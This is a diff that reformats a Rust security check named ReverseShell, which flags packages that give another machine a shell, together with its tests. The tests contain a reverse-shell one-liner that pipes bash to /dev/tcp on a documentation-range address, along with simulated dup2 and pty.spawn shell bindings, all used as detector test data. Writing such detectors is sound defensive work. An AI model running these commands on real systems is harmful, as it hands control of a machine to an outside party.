@@ -1,9 +1,9 @@
 //! Refuses code that gives another machine a shell on this one.
 
+use Severity::{High, Medium};
 use spip_core::{
     Act, Check, Contents, Context, Deed, Finding, Package, Severity, Stop, Taints, Trigger,
 };
-use Severity::{High, Medium};
 
 use crate::contents::{self, Command, Menace, Suspicions, commands, is_shell, weigh};
 
@@ -46,7 +46,10 @@ impl Check for ReverseShell {
             suspicions.command(bound(&contents, &command), GIVES, &command);
             suspicions.command(obeys(&contents, &command), OBEYS, &command);
         }
-        suspicions.report("do not install it; where it ran, treat the machine as taken over", found);
+        suspicions.report(
+            "do not install it; where it ran, treat the machine as taken over",
+            found,
+        );
         Ok(())
     }
 }
@@ -92,8 +95,20 @@ fn bound(contents: &Contents, command: &Command<'_>) -> Option<Severity> {
 fn is_shell_alone(command: &Command<'_>) -> bool {
     let has_shell = command.steps.iter().any(|step| {
         let says_nothing = step.arguments.iter().all(|it| {
-            matches!(it.as_str(), "-i" | "-l" | "-il" | "-li" | "--login" | "-p" | "/q" | "/k" | "-nop" | "-NoProfile" | "sh" | "bash")
-                || it.contains(contents::HOLE)
+            matches!(
+                it.as_str(),
+                "-i" | "-l"
+                    | "-il"
+                    | "-li"
+                    | "--login"
+                    | "-p"
+                    | "/q"
+                    | "/k"
+                    | "-nop"
+                    | "-NoProfile"
+                    | "sh"
+                    | "bash"
+            ) || it.contains(contents::HOLE)
                 || it.starts_with('/')
         });
         is_shell(&step.program) && says_nothing
@@ -103,13 +118,16 @@ fn is_shell_alone(command: &Command<'_>) -> bool {
 
 /// Data from a connection of the same file that becomes a command.
 fn obeys(contents: &Contents, command: &Command<'_>) -> Option<Severity> {
-    let is_received = command.taints.any(Taints::DOWNLOADED) && !command.taints.any(Taints::DROPPED);
+    let is_received =
+        command.taints.any(Taints::DOWNLOADED) && !command.taints.any(Taints::DROPPED);
     let is_open = command.program().is_none_or(is_shell);
     if !is_received || !is_open {
         return None;
     }
     let connection = connections(contents, command).next()?;
-    let is_theirs = contents::addresses(connection).iter().any(contents::Address::is_foreign);
+    let is_theirs = contents::addresses(connection)
+        .iter()
+        .any(contents::Address::is_foreign);
     if command.trigger == Trigger::Call && command.taints.any(Taints::PARAMETER) && !is_theirs {
         return None;
     }
@@ -135,8 +153,12 @@ mod tests {
     #[test]
     fn flags_a_shell_bound_to_a_connection_even_on_use() {
         for trigger in [Trigger::Import, Trigger::Call] {
-            let dup = act(Deed::Redirect, "os.dup2").texts(&["\u{fffc}", "0"]).when(trigger);
-            let world = connecting(trigger).acting(dup).acting(spawn("/bin/sh -i").when(trigger));
+            let dup = act(Deed::Redirect, "os.dup2")
+                .texts(&["\u{fffc}", "0"])
+                .when(trigger);
+            let world = connecting(trigger)
+                .acting(dup)
+                .acting(spawn("/bin/sh -i").when(trigger));
             let expected = format!("high: gives another machine a shell, {}", trigger.words());
             assert_shows(&ReverseShell, world, &expected);
         }
@@ -145,37 +167,72 @@ mod tests {
     #[test]
     fn flags_a_shell_handed_the_connection_as_its_streams() {
         let world = connecting(Trigger::Import).acting(spawn("/bin/bash -i"));
-        assert_shows(&ReverseShell, world, "high: gives another machine a shell, when it is imported");
-        let pty = act(Deed::Spawn, "pty.spawn").texts(&["\u{fffc}"]).when(Trigger::Call);
+        assert_shows(
+            &ReverseShell,
+            world,
+            "high: gives another machine a shell, when it is imported",
+        );
+        let pty = act(Deed::Spawn, "pty.spawn")
+            .texts(&["\u{fffc}"])
+            .when(Trigger::Call);
         let world = connecting(Trigger::Call).acting(pty);
-        assert_shows(&ReverseShell, world, "medium: gives another machine a shell, when it is used");
+        assert_shows(
+            &ReverseShell,
+            world,
+            "medium: gives another machine a shell, when it is used",
+        );
     }
 
     #[test]
     fn flags_one_liners() {
         let line = "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1";
         let world = demo().acting(spawn(line).when(Trigger::Call));
-        assert_shows(&ReverseShell, world, "high: gives another machine a shell, when it is used");
+        assert_shows(
+            &ReverseShell,
+            world,
+            "high: gives another machine a shell, when it is used",
+        );
         let line = "bash -i >& /dev/tcp/\u{fffc}/\u{fffc} 0>&1";
         let world = demo().acting(spawn(line).when(Trigger::Call));
-        assert_shows(&ReverseShell, world, "medium: gives another machine a shell, when it is used");
+        assert_shows(
+            &ReverseShell,
+            world,
+            "medium: gives another machine a shell, when it is used",
+        );
     }
 
     #[test]
     fn flags_commands_from_a_connection() {
-        let world = connecting(Trigger::Call).acting(spawn("\u{fffc}").tainted(Taints::DOWNLOADED).when(Trigger::Call));
-        assert_shows(&ReverseShell, world, "medium: runs commands that another machine sends, when it is used");
+        let world = connecting(Trigger::Call).acting(
+            spawn("\u{fffc}")
+                .tainted(Taints::DOWNLOADED)
+                .when(Trigger::Call),
+        );
+        assert_shows(
+            &ReverseShell,
+            world,
+            "medium: runs commands that another machine sends, when it is used",
+        );
     }
 
     #[test]
     fn accepts_supervisors_terminals_and_clients() {
         let daemon = demo()
-            .acting(act(Deed::Redirect, "os.dup2").texts(&["\u{fffc}", "0"]).when(Trigger::Call))
+            .acting(
+                act(Deed::Redirect, "os.dup2")
+                    .texts(&["\u{fffc}", "0"])
+                    .when(Trigger::Call),
+            )
             .acting(spawn("\u{fffc}").when(Trigger::Call));
         assert_shows(&ReverseShell, daemon, "complete");
-        let client = connecting(Trigger::Call).acting(spawn("sh -c 'ulimit -n'").when(Trigger::Call));
+        let client =
+            connecting(Trigger::Call).acting(spawn("sh -c 'ulimit -n'").when(Trigger::Call));
         assert_shows(&ReverseShell, client, "complete");
-        assert_shows(&ReverseShell, demo().acting(spawn("/bin/bash -i")), "complete");
+        assert_shows(
+            &ReverseShell,
+            demo().acting(spawn("/bin/bash -i")),
+            "complete",
+        );
     }
 
     #[test]
